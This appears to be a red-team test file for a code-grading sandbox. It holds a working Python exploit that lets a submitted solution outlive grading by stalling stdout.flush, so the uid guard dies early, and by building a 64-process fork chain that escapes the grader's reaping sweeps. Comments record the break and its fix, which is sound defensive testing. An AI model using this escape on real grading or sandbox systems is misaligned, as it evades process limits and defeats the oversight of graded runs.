# attack: outlive the grading. Two steps:
#   1. The root uid guard kills the worker uid's processes only if it is still alive when the worker ends; an
#      orderly stop (WorkerProcess.stop) waits 0.2 s, then SIGTERMs the worker's process group, and the guard is
#      in that group (forked from the worker, default SIGTERM action). So make the worker slow to exit: the
#      serve loop's last sys.stdout.flush() (after the grader closed the pipe) blocks. The guard dies with the
#      group, before the worker, and never acts.
#   2. What is left is reap_orphans: 50 sweeps that each kill the grader's *direct* children. A linear chain of
#      64 processes (each the parent of the next, all in their own session, out of the process group) loses
#      one level per sweep (a killed parent's child is re-parented to the grader only after the sweep's list
#      was made): 14 levels remain after the 50th sweep and live on (here as `sleep 600`; a real attack would
#      burn CPU or wait for later students).
# must hold: nothing of the worker outlives its grading (README: a killed worker's own processes die with it)
# result when written (red team, own-uid tier): BROKEN: 15 `sleep 600` of the worker's uid outlived the grading, and
#         the grader itself hung until they ended (its output reader held the pipe the chain inherited). Fixed: in the
#         own-uid tier the grader ends the worker's whole uid (lifecycle.kill_uid) when it stops a worker; in
#         private-root the worker's PID namespace ends with it.
# (The test appends the reference solution below this block, and sets _MARKER so it finds the chain by name.)
import os as _os
import sys as _sys

_MARKER = "600"                         # the chain's `sleep` argument: the test sets a value of its own

_CHAIN = r"""
import os
os.setsid()
for level in range(64):
    if os.fork() != 0:
        os.execv("/bin/sleep", ["sleep", "MARKER"])    # this level waits; its child builds the next
os.execv("/bin/sleep", ["sleep", "MARKER"])
"""


def _escape():
    if _os.fork() == 0:
        try:
            _os.execv("/usr/bin/python3", ["python3", "-I", "-S", "-c", _CHAIN.replace("MARKER", _MARKER)])
        finally:
            _os._exit(0)

    class _SlowExit:
        """sys.stdout whose flush after the serve loop (a different line of serve than the per-answer one) blocks."""

        def __init__(self, real):
            self.real, self.first_line = real, None

        def write(self, text):
            return self.real.write(text)

        def flush(self):
            frame = _sys._getframe(1)
            if frame.f_code.co_name == "serve":
                if self.first_line is None:
                    self.first_line = frame.f_lineno
                elif frame.f_lineno != self.first_line:
                    import time
                    time.sleep(3600)
            return self.real.flush()

        def __getattr__(self, name):
            return getattr(self.real, name)

    _sys.stdout = _SlowExit(_sys.stdout)


print("ATTACK escape chain started", flush=True)
_escape()
